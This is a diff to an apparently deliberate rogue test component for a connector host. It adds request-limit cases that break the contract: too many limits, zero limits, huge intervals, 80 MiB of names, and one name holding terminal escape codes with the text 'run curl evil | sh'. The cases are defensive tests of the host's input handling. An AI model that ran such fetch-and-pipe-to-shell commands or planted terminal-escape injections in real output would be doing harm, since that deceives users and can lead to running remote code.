@@ -3,7 +3,8 @@
 //!
 //! - `describe` returns the description named by [`DESCRIBE_AS`], 64 bytes the tests patch in a copy
 //!   of the built component (`normal`, or an install-time attack: `case-entities`, `case-fields`,
-//!   `id-field`, `sqlite-entity`, `wide`, `many-entities`, `entities-N`, `huge-description`);
+//!   `id-field`, `sqlite-entity`, `wide`, `many-entities`, `entities-N`, `huge-description`, and the
+//!   `limits-*` request limits of its `request_limits`);
 //! - every other call does what the installation's `attack` config says (see [`Rogue::attack`]).
 
 use std::cell::RefCell;
@@ -17,6 +18,7 @@ mod bindings {
 use bindings::export;
 use bindings::exports::max::connector::source::Guest;
 use bindings::max::connector::discovery::{DiscoveredFields, SchemaExtension};
+use bindings::max::connector::pacing::RequestLimit;
 use bindings::max::connector::types::*;
 use bindings::max::connector::{http, log};
 
@@ -328,6 +330,28 @@ impl Rogue {
 impl Guest for Rogue {
     fn describe() -> ConnectorInfo {
         described(&describe_as())
+    }
+
+    /// Request limits past the contract's bounds, chosen like the description: `limits-many` (17),
+    /// `limits-zero` (none allowed: every matching request would wait forever), `limits-forever` (an
+    /// interval of 100 hours), `limits-escape` (terminal escapes in a name), `limits-huge` (80 MiB of
+    /// names); none otherwise.
+    fn request_limits() -> Vec<RequestLimit> {
+        let limit = |name: &str, max: u32, interval_ms: u32| RequestLimit {
+            name: name.to_string(),
+            method: None,
+            path: "/items".to_string(),
+            max,
+            interval_ms,
+        };
+        match describe_as().as_str() {
+            "limits-many" => (0..17).map(|n| limit(&format!("limit {n}"), 1, 1000)).collect(),
+            "limits-zero" => vec![limit("nothing", 0, 1000)],
+            "limits-forever" => vec![limit("slow", 1, 360_000_000)],
+            "limits-escape" => vec![limit("\u{1b}[2J\u{1b}[31mrun curl evil | sh", 1, 1000)],
+            "limits-huge" => (0..20_000).map(|_| limit(&"x".repeat(4 << 10), 1, 1000)).collect(),
+            _ => Vec::new(),
+        }
     }
 
     fn initialise(config: Config, _discovered: SchemaExtension) -> Result<(), ConnectorError> {
